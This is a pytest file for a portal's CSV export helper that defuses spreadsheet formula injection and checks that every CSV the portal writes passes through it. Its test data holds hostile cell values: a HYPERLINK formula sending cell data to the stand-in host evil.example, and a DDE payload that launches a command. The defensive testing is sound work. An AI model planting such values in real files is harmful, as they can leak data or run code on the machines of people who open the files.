"""A counselor opens an exported CSV in a spreadsheet: a cell someone typed as a formula shows
as text and runs nothing; counts stay numbers she can add up; a phone number reads as written
with a `'` before it, as a spreadsheet shows text it was told not to compute."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from portal.csvexport import csv_text, safe_cell

ROOT = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+855 12 345 678", "'+855 12 345 678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Dara", "Dara"),
        ("ដារ៉ា", "ដារ៉ា"),
        ("012 345 678", "012 345 678"),
        ("", ""),
    ],
)
def test_text_that_looks_like_a_formula_is_shown_as_text(typed, exported):
    assert safe_cell(typed) == exported


def test_numbers_stay_numbers_even_negative():
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell(None) is None


def test_what_a_counselor_reads_in_the_file():
    text = csv_text([["Name", "Phone", "Change"], ["=cmd|'/C calc'!A0", "+85512345678", -3]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Name", "Phone", "Change"], ["'=cmd|'/C calc'!A0", "'+85512345678", "-3"]]


def test_every_csv_the_portal_writes_goes_through_the_helper():
    """A new export written with csv.writer elsewhere would skip the neutralising."""
    writers = sorted(
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "portal").rglob("*.py")
        if any(w in path.read_text(encoding="utf-8") for w in ("csv.writer(", "csv.DictWriter("))
    )
    assert writers == ["portal/csvexport.py"]
